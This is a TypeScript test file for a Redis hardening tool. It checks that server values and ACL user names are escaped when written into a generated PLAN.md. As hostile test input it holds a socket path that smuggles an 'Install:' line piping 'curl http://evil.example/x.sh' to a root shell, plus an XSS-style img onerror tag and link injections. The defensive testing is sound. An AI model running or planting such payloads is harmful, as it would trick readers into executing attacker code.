// QA44-55: PLAN.md put the server's values into Markdown as they were: a backtick in a live server's `unixsocket`
// closed the code span, and the rest rendered as the plan's own text (a bold "Install:" line to pipe a URL to a root
// shell, a link, an HTML tag). Every such value goes through one code-span helper (outputs.ts codeSpan: a fence longer
// than the longest run of backticks in it, control characters escaped).
import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, describe, it } from 'node:test';
import { codeSpan } from '../../src/harden/outputs.ts';
import type { RespValue } from '../harness/raw.ts';
import { startRedis, stopAll } from '../harness/servers.ts';
import { forwardingProxy } from '../helpers/config-proxy.ts';
import { redfort } from './run.ts';

const work = mkdtempSync(join(tmpdir(), 'redfort-harden-plan-markdown-'));
after(async () => {
  await stopAll();
  rmSync(work, { recursive: true, force: true });
});

const SOCKET = '/tmp/q` **Install:** run `curl http://evil.example/x.sh | sh` as root <img src=x onerror=alert(1)> [docs](http://evil.example) `x.sock';

/**
 * A line of Markdown without its code spans, as CommonMark reads them: a run of N backticks opens one, the next run of
 * exactly N backticks closes it (an unclosed run is literal text).
 */
function outsideCode(line: string): string {
  let out = '';
  let i = 0;
  while (i < line.length) {
    if (line[i] !== '`') {
      out += line[i++];
      continue;
    }
    const open = /^`+/.exec(line.slice(i))![0];
    let j = i + open.length;
    let close = -1;
    while (j < line.length) {
      const run = /^`+/.exec(line.slice(j))?.[0];
      if (run === undefined) j++;
      else if (run.length === open.length) { close = j; break; }
      else j += run.length;
    }
    if (close === -1) {
      out += open;
      i += open.length;
    } else i = close + open.length;
  }
  return out;
}

describe("PLAN.md shows a server's values as code spans (QA44-55)", () => {
  it('codeSpan: a fence longer than the backticks inside, padded when the value starts or ends with one, control characters escaped', () => {
    assert.equal(codeSpan('/var/lib/redis'), '`/var/lib/redis`');
    assert.equal(codeSpan('a`b'), '``a`b``');
    assert.equal(codeSpan('`a``'), '``` `a`` ```');
    assert.equal(codeSpan('m1\nsentinel x'), '`m1\\u000asentinel x`');
  });

  it("a live server's unixsocket with backticks, bold text, a link and an HTML tag: only inside code spans", async () => {
    const real = await startRedis();
    const proxy = await forwardingProxy(real, {
      rewrite: (argv, reply): RespValue => {
        if (argv[0]?.toLowerCase() === 'info' && typeof reply === 'string') return reply.replace(/^config_file:.*$/m, 'config_file:');
        if (argv[0]?.toLowerCase() !== 'config' || !Array.isArray(reply)) return reply;
        const pairs: RespValue[] = [];
        for (let i = 0; i + 1 < reply.length; i += 2) if (reply[i] !== 'unixsocket') pairs.push(reply[i]!, reply[i + 1]!);
        const asked = String(argv[2] ?? '').toLowerCase();
        if (asked === '*' || asked === 'unixsocket') pairs.push('unixsocket', SOCKET);
        return pairs;
      },
    });
    try {
      const out = join(mkdtempSync(join(work, 'live-')), 'out');
      const run = await redfort(['harden', `redis://127.0.0.1:${proxy.port}`, '--out', out]);
      assert.ok(run.code === 0 || run.code === 1, run.stdout + run.stderr);
      const plan = readFileSync(join(out, 'PLAN.md'), 'utf8');
      const lines = plan.split('\n').filter((l) => l.includes('evil.example'));
      assert.ok(lines.length > 0, plan);
      for (const line of lines) assert.doesNotMatch(outsideCode(line), /evil\.example|\*\*Install:\*\*|<img/, line);
    } finally {
      await proxy.close();
    }
  });

  // QA44-55's rest: ACL user names and the file:line of a setting were plain Markdown: a user named `**boss**|<i>x</i>`
  // made bold text, an HTML tag and a new table cell, one named `[link](http:evil.example)` a link, and a directory
  // named `d*[x](http:evil.example)<b>` a link and a tag in every `file:line`. They are escaped as the Markdown report
  // escapes text (its markdownText).
  it('user names and file:line locations: escaped, no emphasis, link, tag or table cell of their own', async () => {
    const dir = join(work, 'd*[x](http:evil.example)<b>');
    mkdirSync(dir);
    writeFileSync(join(dir, 'users.acl'), [
      'user default off',
      'user **boss**|<i>x</i> on >Plaintext-Pass-1234567 ~* +@all',
      'user [link](http:evil.example) on #5e884898da28047151d0e56f8dc6292773603d0d6aabbdd62a11ef721d1542d8 ~* +@read +flushall',
      '',
    ].join('\n'));
    writeFileSync(join(dir, 'redis.conf'), `port 6390\nbind 127.0.0.1\naclfile ${join(dir, 'users.acl')}\nrequirepass Shared-Pass-123456789\n`);
    const out = join(work, 'files-out');
    const run = await redfort(['harden', '--config', join(dir, 'redis.conf'), '--out', out]);
    assert.ok(run.code === 0 || run.code === 1, run.stdout + run.stderr);
    const plan = readFileSync(join(out, 'PLAN.md'), 'utf8');
    const lines = plan.split('\n').filter((l) => /boss|link|evil/.test(l));
    // Each of them is named: the rotate lines (file:line and the user), the items' table rows, the trial's logins.
    assert.ok(lines.some((l) => /users\.acl:2/.test(l) && l.includes('boss')), plan);
    assert.ok(lines.some((l) => /redis\.conf:4/.test(l)), plan);
    assert.ok(lines.some((l) => l.startsWith('| auth.dangerous-commands-allowed') && l.includes('link')), plan);
    for (const line of lines) {
      // What Markdown reads: outside the code spans, with the escaped characters taken out.
      const read = outsideCode(line).replace(/\\[\s\S]/g, '');
      assert.doesNotMatch(read, /\*\*boss|\[link\]|\[x\]|<i>|<b>/, line);
      if (line.startsWith('|')) assert.equal(read.split('|').length - 1, 4, `one row of three cells: ${line}`);
    }
  });
});
